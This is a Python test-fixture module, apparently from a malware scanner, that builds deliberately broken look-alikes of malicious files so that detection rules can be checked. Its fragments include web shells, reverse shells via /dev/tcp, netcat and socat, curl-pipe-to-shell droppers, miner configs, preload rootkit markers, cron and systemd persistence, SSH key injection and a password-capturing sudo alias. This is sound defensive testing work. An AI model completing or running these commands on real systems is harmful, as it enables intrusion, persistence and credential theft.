"""Inert look-alikes of malicious files, made when a test asks for them.

Each one has the words and the structure that a rule looks for and cannot work: statements are left open so that no
interpreter parses them, executables have a header and no code, names and addresses are the reserved ones
(example.test, 192.0.2.0/24), keys and wallets are runs of one letter.  The words are put together from pieces, so that
this source is no look-alike itself.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from pratique.model.sample import Level

ADDRESS = "192.0.2.7"
HOST = "pool.example.test"
WALLET = "4" + "8" + "A" + "x" * 92 + " "
CUT = "/* cut here on purpose"


@dataclass(frozen=True, slots=True)
class LookAlike:
    """One file that must be found, by which rule and at which level."""

    path: str
    body: bytes
    rule: str
    level: Level


def eicar() -> bytes:
    """Return the EICAR test file, put together from its halves."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def elf(*words: str, kind: int = 3) -> bytes:
    """Return an ELF header without segments (``kind`` 2 executable, 3 shared object, 1 relocatable) and ``words``."""
    header = (
        b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", kind, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)
    )
    return header + b"\0".join(word.encode() for word in words) + b"\0"


def look_alikes() -> tuple[LookAlike, ...]:
    """Return every look-alike, at least one for each starter rule."""
    return (
        *_test_files(), *_php(), *_pages(), *_server_code(), *_miners(), *_reverse_shells(), *_droppers(), *_rootkits(),
        *_persistence(),
    )  # fmt: skip


def _sample(path: str, text: str | bytes, rule: str, level: Level = Level.URGENT) -> LookAlike:
    return LookAlike(path, text.encode() if isinstance(text, str) else text, rule, level)


def _test_files() -> tuple[LookAlike, ...]:
    return (
        _sample("opt/eicar.com", eicar(), "eicar_test_file"),
        _sample("srv/readme.txt", eicar() + b"\r\n", "eicar_test_file"),
    )


def _php() -> tuple[LookAlike, ...]:
    request = "$_" + "POST['a'"
    long_text = "QUFB" * 40
    runs = "php_runs_request"
    return (
        _sample("var/www/html/a.php", f"<?php ev{'al'}({request}] {CUT}", runs),
        _sample("var/www/html/b.php", f"<?php @sys{'tem'}( $_{'GET'}['c'] {CUT}", runs),
        _sample("var/www/html/c.php", f"<?php ass{'ert'}(base64_decode(@{request}] {CUT}", runs),
        _sample("var/www/html/d.jpg", f"\xff\xd8\xff\xe0JFIF <?php pass{'thru'}($_{'REQUEST'}['q'] {CUT}", runs),
        _sample("var/www/html/e.php", f"<?= `$_{'GET'}[0] {CUT}".replace("<?=", "<?php echo"), runs),
        _sample("var/www/html/f.php", f"<?php $_{'GET'}['f']($_{'POST'}['x'] {CUT}", runs),
        _sample("var/www/html/g.php", f"<?php preg_replace('/.*/e', $_{'POST'}['x'] {CUT}", runs),
        _sample("var/www/html/h.php", f"<?php call_user_func($_{'GET'}['f'] {CUT}", runs),
        _sample("var/www/html/i.phtml", f"<?php shell_ex{'ec'}(str_rot13(trim({request}] {CUT}", runs),
        _sample("app/k.php", f"<?php ev{'al'}(file_get_contents('php://{'input'}' {CUT}", "php_runs_request_body"),
        _sample(
            "app/l.php",
            f"<?php ev{'al'}(gzinflate(base64_decode('{long_text}' {CUT}",
            "php_hidden_payload",
            Level.WARNING,
        ),
        _sample("app/m.php", f"<?php $f = 'a'.'ss'.'e'.'r'.'t'.'x'; $f($x {CUT}", "php_hidden_payload", Level.WARNING),
        _sample("app/n.php", f"<?php $n='b{'374'}k'; php_uname safe_mode back_connect {CUT}", "php_toolkit_names"),
        _sample("app/o.php", f"<?php $n='c99{'shell'}'; posix_getpwuid bind_port {CUT}", "php_toolkit_names"),
        _sample(
            "app/p.php",
            f"<?php copy($_FI{'LES'}['f']['tmp_name'], $_{'POST'}['to'] {CUT}",
            "php_bare_uploader",
            Level.WARNING,
        ),
    )


def _pages() -> tuple[LookAlike, ...]:
    runtime, parameter = "Runtime.getRun" + "time().exec(", "request.getPara" + 'meter("c"'
    page, asked = '<%@ Page Language="C#" %>', "Requ" + "est"
    return (
        _sample("opt/tomcat/webapps/ROOT/a.jsp", f"<% {runtime} {parameter} {CUT}", "jsp_runs_request"),
        _sample("opt/tomcat/webapps/ROOT/b.jspx", f"<jsp:scriptlet> {runtime} {parameter} {CUT}", "jsp_runs_request"),
        _sample("opt/tomcat/webapps/ROOT/c.jsp", f"<% new Process{'Builder'}({parameter} {CUT}", "jsp_runs_request"),
        _sample(
            "opt/tomcat/webapps/ROOT/d.jsp", f"<% define{'Class'} Base64 {parameter} {CUT}", "jsp_loads_request_class"
        ),
        _sample(
            "opt/tomcat/webapps/ROOT/e.jsp",
            f"<%@ page %> <% define{'Class'} Cipher.getInstance request.getReader( {CUT}",
            "jsp_loads_request_class",
        ),
        _sample("inetpub/wwwroot/a.aspx", f'{page} <% ev{"al"}({asked}.Item["z"] {CUT}', "aspx_runs_request"),
        _sample("inetpub/wwwroot/b.asp", f'<% exe{"cute"} {asked}("z" {CUT}', "aspx_runs_request"),
        _sample(
            "inetpub/wwwroot/c.aspx", f'{page} ProcessStart{"Info"} "cmd.exe" {asked}["c" {CUT}', "aspx_starts_process"
        ),
        _sample(
            "inetpub/wwwroot/d.ashx",
            f'<%@ WebHandler %> Process.Start( "/bin/sh" {asked}.Form {CUT}',
            "aspx_starts_process",
        ),
        _sample(
            "inetpub/wwwroot/e.aspx",
            f"{page} Assembly.Lo{'ad'}({asked}.BinaryRead {CUT}",
            "aspx_loads_request_assembly",
        ),
    )


def _server_code() -> tuple[LookAlike, ...]:
    asked = "request.ar" + "gs['c'"
    return (
        _sample("app/a.py", f"os.po{'pen'}({asked} {CUT}", "python_runs_request"),
        _sample("app/b.py", f"subprocess.check_{'output'}(flask.{asked} {CUT}", "python_runs_request"),
        _sample("app/c.py", f"ex{'ec'}(base64.b64decode(request.fo{'rm'}['x' {CUT}", "python_runs_request"),
        _sample("app/d.cgi", f"#!/usr/bin/python3\nos.sys{'tem'}(form.get{'value'}('c' {CUT}", "python_runs_request"),
        _sample("app/a.js", f"child_{'process'} ; cp.ex{'ec'}(req.qu{'ery'}.c {CUT}", "node_runs_request"),
        _sample("app/b.mjs", f"ev{'al'}(req.bo{'dy'}.c {CUT}", "node_runs_request"),
    )


def _miners() -> tuple[LookAlike, ...]:
    pool = f"stra{'tum'}+tcp://{HOST}:3333"
    settings = f'{{"pools": [{{"algo": "rx/0", "url": "{HOST}:3333", "user": "nobody", "donate-{"level"}": 1'
    kill = "\n".join(f"pki{'ll'} -f {name}" for name in ("kdev" + "tmpfsi", "kin" + "sing", "xm" + "rig"))
    return (
        _sample("tmp/.x/run", elf(f"stra{'tum'}+tcp://", "random" + "x", "xm" + "rig", kind=2), "miner_program"),
        _sample(
            "usr/bin/kworker",
            elf("mining.sub" + "scribe", "crypto" + "night", "hash" + "rate", kind=2),
            "miner_program",
        ),
        _sample("a.exe", b"MZ\0\0" + f"stra{'tum'}+ssl:// kaw{'pow'} nice{'hash'}".encode(), "miner_program"),
        _sample("opt/start.sh", f"#!/bin/false\n( ./m --url={pool} --user=nobody", "miner_start_script"),
        _sample("opt/go.sh", f"#!/bin/false\n( ./xm{'rig'} -u {WALLET}", "miner_start_script"),
        _sample("opt/m/config.json", settings, "miner_settings"),
        _sample("opt/clean.sh", f"#!/bin/false\n( \n{kill}\n", "miner_rival_killer"),
        _sample(
            "var/www/html/m.js",
            f"coin{'hive'}.min.js ; new Coin{'Hive'}.Anonymous('nobody' {CUT}",
            "miner_in_web_page",
            Level.WARNING,
        ),
    )


def _reverse_shells() -> tuple[LookAlike, ...]:
    device, false = f"/dev/t{'cp'}/{ADDRESS}/9", "#!/bin/false\n( "
    return (
        _sample("opt/r1.sh", f"{false}bash -i >& {device} 0>&1", "shell_over_dev_tcp"),
        _sample("opt/r2.sh", f"{false}sh -i 5<> {device} 0<&5", "shell_over_dev_tcp"),
        _sample("opt/r3.sh", f"{false}exec 5<>{device}; sh <&5 >&5 2>&5", "shell_over_dev_tcp"),
        _sample("etc/cron.d/r4", f"# ( bash -i >& {device}", "shell_over_dev_tcp"),
        _sample("opt/r5.sh", f"{false}n{'c'} {ADDRESS} 9 -e /bin/sh", "shell_over_netcat"),
        _sample("opt/r6.sh", f"{false}n{'cat'} -e /bin/bash {ADDRESS} 9", "shell_over_netcat"),
        _sample(
            "opt/r7.sh",
            f"{false}mkf{'ifo'} /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n{'c'} {ADDRESS} 9",
            "shell_over_netcat",
        ),
        _sample("opt/r8.sh", f"{false}so{'cat'} exec:'bash -li',pty tcp:{ADDRESS}:9", "shell_over_netcat"),
        _sample(
            "opt/r9.py",
            f"s=socket.socket( ; s.connect(('{ADDRESS}' ; os.dup{'2'}(s.fileno(),0) ; pty.sp{'awn'}('/bin/sh'",
            "python_reverse_shell",
        ),
        _sample(
            "opt/r10.pl", f"use Sock{'et'}; open(ST{'DIN'},'>&S' ; ex{'ec'}('/bin/sh' {CUT}", "script_reverse_shell"
        ),
        _sample("opt/r11.rb", f"TCPSo{'cket'}.new( ; ex{'ec'} '/bin/sh -i <&", "script_reverse_shell"),
        _sample("opt/r12.php", f"<?php fsock{'open'}( ; proc_{'open'}('/bin/sh -i' {CUT}", "script_reverse_shell"),
        _sample(
            "opt/r13.js",
            f"require('net') ; sp{'awn'}('/bin/sh' ; client.pi{'pe'}(sh.std{'in'}) {CUT}",
            "script_reverse_shell",
        ),
        _sample(
            "opt/r14.ps1", f"Net.Sockets.Tcp{'Client'}( ; .Get{'Stream'}() ; ie{'x'} {{", "powershell_reverse_shell"
        ),
    )


def _droppers() -> tuple[LookAlike, ...]:
    false, text = "#!/bin/false\n( ", "QUFB" * 30
    fetch = f"cu{'rl'} -s http://{ADDRESS}/x"
    return (
        _sample("opt/d1.sh", f"{false}{fetch} | sh", "pipes_address_to_shell"),
        _sample("opt/d2.sh", f"{false}wg{'et'} -qO- http://{ADDRESS}:8080/x | bash", "pipes_address_to_shell"),
        _sample("opt/d3.sh", f'{false}bash -c "$({fetch}', "pipes_address_to_shell"),
        _sample("opt/d4.sh", f"{false}cd /tmp; {fetch} -o x\nchm{'od'} +x x\n./x &\n", "fetches_to_temporary_and_runs"),
        _sample("opt/d5.sh", f"{false}echo {text} | base{'64'} -d | sh", "encoded_text_to_shell"),
        _sample("opt/d6.sh", f'{false}eval "$(echo {text} | base{"64"} --decode', "encoded_text_to_shell"),
        _sample("opt/d7.py", f"ex{'ec'}(base64.b64{'decode'}('{text}' {CUT}", "python_hidden_payload"),
        _sample("opt/d8.py", f"ex{'ec'}(zlib.decompress(base64.b64{'decode'}(b'{text}' {CUT}", "python_hidden_payload"),
        _sample("opt/d9.py", f"ex{'ec'}(requests.g{'et'}('http://{HOST}/x').te{'xt'} {CUT}", "python_hidden_payload"),
        _sample(
            "opt/d10.pl", f"sys{'call'}(319, ; ex{'ec'} '/proc/self/fd/ {CUT}", "script_runs_from_memory", Level.WARNING
        ),
        _sample("opt/d11/index.js", f"cp.ex{'ec'}('cu{'rl'} https://{HOST}/x | sh {CUT}", "package_hook_dropper"),
        _sample(
            "opt/d12/setup.py", f"os.sys{'tem'}('wg{'et'} -O- https://{HOST}/x | bash {CUT}", "package_hook_dropper"
        ),
    )


def _rootkits() -> tuple[LookAlike, ...]:
    preload = "ld.so.pre" + "load"
    words = (preload, "dl" + "sym", "readdir" + "64", "/proc/net/tcp", "un" + "linkat", "fopen" + "64")
    hide = ("readdir", "dl" + "sym", "process_to_" + "filter")
    module = ("vermagic=0", "sys_call_" + "table", "module_" + "hide", "give_" + "root")
    return (
        _sample("lib/libselinux.so.9", elf(*words), "preload_rootkit_library"),
        _sample("usr/lib/libhide.so", elf(*hide), "process_hiding_library"),
        _sample("lib/modules/x.ko", elf(*module, kind=1), "kernel_rootkit_module"),
        _sample("etc/" + preload, "/dev/shm/.x.so\n", "preload_list_hidden_library"),
        _sample("etc/" + preload, "/usr/lib/libhide.so\n", "preload_list_in_use", Level.WARNING),
        _sample("opt/k1.sh", f"#!/bin/false\n( echo /usr/lib/x.so >> /etc/{preload}", "script_writes_preload_list"),
        _sample("opt/k2.py", f"open('/etc/{preload}', 'w' {CUT}", "script_writes_preload_list"),
    )


def _persistence() -> tuple[LookAlike, ...]:
    fetch = f"cu{'rl'} -fsSL https://{HOST}/x | sh"
    key = "ssh-ed25519 " + "A" * 64
    false = "#!/bin/false\n( "
    return (
        _sample("var/spool/cron/crontabs/root", f"*/5 * * * * ( {fetch}\n", "schedule_fetches_script"),
        _sample("etc/cron.d/x", f"@reboot root ( {fetch}\n", "schedule_fetches_script"),
        _sample("etc/cron.daily/x", f"{false}{fetch}\n", "schedule_script_fetches_script"),
        _sample("etc/crontab", "* * * * * root ( /dev/shm/.x/y\n", "schedule_starts_hidden_program", Level.WARNING),
        _sample(
            "etc/systemd/system/x.service",
            "[Service]\nExecStart=( /var/tmp/.x/y\n",
            "service_starts_hidden_program",
            Level.WARNING,
        ),
        _sample(
            "usr/lib/systemd/system/y.service",
            f"[Service]\nExecStart=/bin/sh -c '( {fetch}\n",
            "service_fetches_script",
        ),
        _sample("root/.bashrc", f"( {fetch}\n", "start_up_fetches_script"),
        _sample("etc/profile.d/x.sh", "( nohup /tmp/.x/y &\n", "start_up_fetches_script"),
        _sample("home/u/.bashrc", f"ali{'as'} sudo='( read -s p; echo $p >> /tmp/.p'\n", "start_up_takes_passwords"),
        _sample("root/.ssh/authorized_keys", f"{key} nobody@example.test\n", "authorized_keys_built_in", Level.NOTICE),
        _sample("opt/s1.sh", f"{false}echo '{key}' >> /root/.ssh/authorized_{'keys'}", "script_adds_ssh_key"),
        _sample("opt/s2.sh", f"{false}chat{'tr'} +ia /root/.ssh/authorized_{'keys'}", "script_adds_ssh_key"),
        _sample("opt/s3.sh", f"{false}echo 'x:x:0:0::/:/bin/false' >> /etc/pass{'wd'}", "script_adds_root_account"),
        _sample("opt/s4.sh", f"{false}user{'add'} -o -u 0 nobody2", "script_adds_root_account"),
    )
